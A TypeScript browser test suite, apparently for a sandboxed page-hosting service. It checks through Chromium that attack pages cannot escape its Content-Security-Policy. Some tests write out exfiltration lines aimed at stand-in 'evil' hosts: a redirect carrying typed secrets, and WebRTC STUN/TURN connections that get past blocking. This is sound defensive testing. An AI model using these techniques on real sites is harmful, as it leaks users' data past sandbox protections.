import assert from "node:assert/strict";
import { createHash } from "node:crypto";
import { after, before, test } from "node:test";
import { setTimeout as sleep } from "node:timers/promises";
import type { Browser, Page } from "playwright-core";
import { inlineScripts } from "../src/domains/apps/inline-scripts.ts";
import { REFUSED_FEATURES } from "../src/surfaces/hosted/features.ts";
import { sandboxHeaders } from "../src/surfaces/hosted/hosted.ts";
import { ATTACKS, type Attack, INTEGRITY, pageOf, SPECULATIONS } from "./browser/attacks.ts";
import { openChromium } from "./browser/chromium.ts";
import { KINDS, KINDS_PAGE, ORDINARY } from "./browser/kinds.ts";
import { openControl, openEvil, openService, openUdp } from "./browser/servers.ts";
import { eventually } from "./postgres-store.ts";

/** Enough for a request to reach a server of this machine; what is held back stays held back. */
const SETTLING_MS = 300;
/** Longer than the longest attack. */
const DONE_MS = 5_000;
/** Every attack but one has its effect where nothing holds it back, and that one says when it is done. */
const EFFECT_MS = 120_000;
const WITHOUT_EFFECT = "shared memory";
const LOOK_MS = 50;
const AT_ONCE = 6;

let browser: Browser;
let service: Awaited<ReturnType<typeof openService>>;
let control: Awaited<ReturnType<typeof openControl>>;
let evil: Awaited<ReturnType<typeof openEvil>>;

before(async () => {
  [browser, service, control, evil] = await Promise.all([
    openChromium(),
    openService(),
    openControl(() => []),
    openEvil(),
  ]);
});
after(() => Promise.all([browser, service, control, evil].map((each) => each.close())));

/** What a visit has set off, beside what its pages say themselves. */
interface Visit {
  readonly page: Page;
  readonly effects: Set<string>;
}

/** Visits as somebody who has cookies of the network's address, and who grants whatever is asked for. */
async function visiting(during: (visit: Visit) => Promise<void>): Promise<void> {
  const context = await browser.newContext({
    geolocation: { latitude: 1, longitude: 1 },
    permissions: ["geolocation", "clipboard-read", "clipboard-write"],
  });
  await context.addCookies([{ name: "planted", value: "1", url: service.baseUrl }]);
  context.setDefaultTimeout(EFFECT_MS);
  const effects = new Set<string>();
  context.on("page", (page) => {
    page.on("download", () => effects.add("a download"));
    page.on("dialog", (dialog) => {
      effects.add("a dialog");
      void dialog.dismiss().catch(() => {});
    });
  });
  await during({ page: await context.newPage(), effects });
  await context.close();
}

/** Whatever came of an attack so far, in all pages and frames of the visit. */
async function effectsOf({ page, effects }: Visit, hits: string): Promise<Set<string>> {
  const all = new Set(effects);
  if (evil.hits(hits) > 0) all.add("a hit");
  for (const { headers } of service.requests(hits))
    if (headers.cookie !== undefined) all.add("a cookie at the network");
  for (const frame of page
    .context()
    .pages()
    .flatMap((each) => each.frames())) {
    // A frame whose document was refused has nobody who could answer.
    const said: unknown = await Promise.race([
      frame.evaluate("window.effects ?? []").catch(() => []),
      sleep(SETTLING_MS),
    ]);
    if (Array.isArray(said)) for (const effect of said) all.add(String(effect));
  }
  return all;
}

const isDone = ({ page }: Visit) => page.evaluate("window.done === true").catch(() => false);

/** Where pages are hosted, and how long to wait there: until something happens, or for what must not. */
interface Trial {
  /** Tells its hits from those of other trials. */
  readonly name: string;
  host(html: string): string | Promise<string>;
  readonly expects: "effects" | "none";
}

/** Hosts the attack's page, goes there, and waits: until something happens, or nothing can any more. */
async function attempt(attack: Attack, { name, host, expects }: Trial): Promise<Set<string>> {
  const hits = `/${name}/${ATTACKS.indexOf(attack)}/`;
  const names = { evil: evil.url + hits, network: service.baseUrl };
  const app = await host(pageOf(attack.script, names, attack.markup?.(names.evil)));
  const start = attack.start && pageOf(attack.start, { ...names, app });
  const url = start === undefined ? app : evil.host(`/start${hits}`, start);
  let effects = new Set<string>();
  await visiting(async (visit) => {
    await visit.page.goto(url, { waitUntil: "commit" });
    if (expects === "none") {
      await visit.page.waitForFunction("window.done", null, { timeout: DONE_MS }).catch(() => {});
      await sleep(SETTLING_MS);
    }
    const until = Date.now() + EFFECT_MS;
    do {
      effects = await effectsOf(visit, hits);
      if (expects === "effects") await sleep(LOOK_MS);
      if (attack.name === WITHOUT_EFFECT && (await isDone(visit))) break;
    } while (expects === "effects" && effects.size === 0 && Date.now() < until);
  });
  return effects;
}

/** Attacks, some at a time; by name, what came of each that had any effect. */
async function attemptAll(
  trial: Trial,
  attacks: readonly Attack[] = ATTACKS,
): Promise<Record<string, string[]>> {
  const found: Record<string, string[]> = {};
  const left = [...attacks];
  const work = async () => {
    for (let attack = left.pop(); attack !== undefined; attack = left.pop()) {
      const effects = await attempt(attack, trial);
      if (effects.size > 0) found[attack.name] = [...effects];
    }
  };
  await Promise.all(Array.from({ length: AT_ONCE }, work));
  return found;
}

test("no attack of a hosted page has any effect", async () => {
  assert.deepEqual(await attemptAll({ name: "none", host: service.host, expects: "none" }), {});
  assert.equal(evil.hits("/none/"), 0, "nothing comes late, either");
});

test("without the headers every one of them has", async () => {
  const found = await attemptAll({ name: "control", host: control.host, expects: "effects" });
  const without = ATTACKS.filter(({ name }) => found[name] === undefined);
  // Memory is shared only with pages that ask for isolation by headers.
  assert.deepEqual(
    without.map(({ name }) => name),
    [WITHOUT_EFFECT],
  );
});

/** The policy as it was before inline scripts were named by hash. */
const OLD_POLICY =
  "sandbox allow-scripts allow-forms allow-pointer-lock; default-src 'none'; script-src 'unsafe-inline' 'unsafe-eval' blob: data:; style-src 'unsafe-inline'; img-src data: blob:; connect-src *";

test("with the policy that allowed every inline script, speculations have hits", async (t) => {
  const old = await openControl(() => ["content-security-policy", OLD_POLICY]);
  t.after(old.close);
  const trial = { name: "old", host: old.host, expects: "effects" } as const;
  const found = Object.keys(await attemptAll(trial, SPECULATIONS));
  assert.ok(found.length >= SPECULATIONS.length - 1, found.join());
});

test("a hash of what could be rules would let it through", async (t) => {
  const [smuggled] = SPECULATIONS.filter(({ markup, script }) => markup && script !== "");
  assert.ok(smuggled !== undefined);
  const hashed = await openControl((html) => {
    const [, rules = ""] = /<script id="rules">(.+?)<\/script>/.exec(html) ?? [];
    const hashes = [...inlineScripts(Buffer.from(html)).hashes];
    hashes.push(createHash("sha256").update(rules).digest("base64"));
    return sandboxHeaders(service.baseUrl, hashes);
  });
  t.after(hashed.close);
  const trial = { name: "hashed", host: hashed.host, expects: "effects" } as const;
  assert.deepEqual(await attemptAll(trial, [smuggled]), { [smuggled.name]: ["a hit"] });
});

test("a hash without the second policy would let a foreign address through", async (t) => {
  const single = await openControl((html) => {
    const headers = sandboxHeaders(service.baseUrl, inlineScripts(Buffer.from(html)).hashes);
    return headers.map((value) => value.replace(/, script-src-elem .*$/, ""));
  });
  t.after(single.close);
  const trial = { name: "single", host: single.host, expects: "effects" } as const;
  assert.deepEqual(await attemptAll(trial, [INTEGRITY]), { [INTEGRITY.name]: ["a hit"] });
});

test("a page may use three features, and tell this server about the browser", async () => {
  const url = await service.host("<!doctype html><p>x");
  await visiting(async ({ page }) => {
    await page.goto(url);
    const known = await page.evaluate<string[]>("document.featurePolicy.features()");
    assert.ok(known.length > REFUSED_FEATURES.length / 2, "the browser names its features");
    const allowed = await page.evaluate<string[]>("document.featurePolicy.allowedFeatures()");
    assert.deepEqual(allowed.filter((feature) => !feature.startsWith("ch-")).sort(), [
      "aria-notify",
      "autoplay",
      "gamepad",
    ]);
  });
});

test("an ordinary page works and talks to the network", async () => {
  const url = await service.host(pageOf(ORDINARY, { evil: evil.url, network: service.baseUrl }));
  await visiting(async ({ page }) => {
    await page.goto(url);
    await page.waitForFunction("window.done", null, { timeout: EFFECT_MS });
    assert.deepEqual(await page.evaluate("window.effects"), [
      "style",
      "eval",
      "image",
      "worker",
      "form",
      "network",
      "write refused",
      "null",
    ]);
    const requests = service.requests("ordinary");
    assert.deepEqual(
      requests.map(({ method }) => method),
      ["GET", "OPTIONS", "POST"],
    );
    for (const { headers } of requests) {
      assert.equal(headers.origin, "null");
      assert.deepEqual([headers.cookie, headers.referer], [undefined, undefined]);
    }
  });
});

test("an ordinary page runs scripts of every kind", async () => {
  const url = await service.host(KINDS_PAGE);
  await visiting(async ({ page }) => {
    await page.goto(url);
    const all = `effects.length >= ${Object.keys(KINDS).length}`;
    await page.waitForFunction(all, null, { timeout: EFFECT_MS }).catch(() => {});
    const ran = await page.evaluate<string[]>("window.effects");
    assert.deepEqual(ran.sort(), Object.keys(KINDS).sort());
  });
});

/** Goes to a hosted page and waits until `happened`: a browser that changes fails the test. */
async function residual(html: string, happened: () => boolean): Promise<void> {
  const url = await service.host(html);
  await visiting(async ({ page }) => {
    await page.goto(url);
    for (const until = Date.now() + EFFECT_MS; !happened() && Date.now() < until; )
      await sleep(LOOK_MS);
  });
  assert.ok(happened());
}

test("residual 1: a page can take its reader elsewhere, with what was typed", async () => {
  const names = { evil: `${evil.url}/residual-1`, network: service.baseUrl };
  await residual(
    pageOf("location = evil + '?typed=secret'", names),
    () => evil.hits("/residual-1?typed=secret") > 0,
  );
  const refresh = `<meta http-equiv="refresh" content="0;url=${evil.url}/residual-1-refresh">`;
  await residual(refresh, () => evil.hits("/residual-1-refresh") > 0);
});

test("residual 2: WebRTC reaches any host, by STUN and by TURN over TCP, although it is blocked", async (t) => {
  const [udp, relay] = await Promise.all([openUdp(), openEvil()]);
  t.after(() => Promise.all([udp.close(), relay.close()]));
  const turn = `turn:${new URL(relay.url).host}?transport=tcp`;
  const script = `
    const relay = { urls: '${turn}', username: 'typed', credential: 'x' };
    const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:${udp.at}' }, relay] });
    peer.createDataChannel('x');
    await peer.setLocalDescription(await peer.createOffer());
    await wait(60000);`;
  const names = { evil: evil.url, network: service.baseUrl };
  await residual(pageOf(script, names), () => udp.packets() > 0 && relay.connections() > 0);
});

test("residual 4: without an origin of its own a page shows another path of the host", async () => {
  const url = await service.host("<script>history.pushState(null, '', '/console/')</script>");
  await visiting(async ({ page }) => {
    await page.goto(url);
    assert.equal(page.url(), `${service.baseUrl}/console/`);
  });
});

test("residual 3: whether a link opens a connection is left to the browser", async (t) => {
  const connections = async (host: typeof service.host | typeof control.host) => {
    const silent = await openEvil();
    t.after(silent.close);
    const url = await host(`<link rel="preconnect" href="${silent.url}"><p>x`);
    await visiting(async ({ page }) => {
      await page.goto(url);
      await sleep(SETTLING_MS);
    });
    return silent.connections();
  };
  await eventually(
    async () => (await connections(service.host)) === (await connections(control.host)),
  );
});
